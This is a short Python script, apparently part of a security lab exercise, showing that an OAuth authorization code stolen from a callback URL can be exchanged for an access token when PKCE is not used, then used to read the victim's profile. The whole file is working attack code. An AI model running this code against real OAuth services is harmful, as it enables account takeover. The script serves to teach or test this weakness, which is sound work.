"""The stolen code: without PKCE, whoever has it can exchange it."""

import requests


def attack(exercise):
    exercise.victim.signs_in()
    stolen = exercise.leaks()["callback_url"]

    answer = requests.post(
        f"{exercise.issuer}/connect/token",
        data={
            "grant_type": "authorization_code",
            "code": stolen["code"],
            "client_id": exercise.client_id,
            "redirect_uri": f"{exercise.app}/callback",
        },
    )
    if answer.ok:
        token = answer.json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
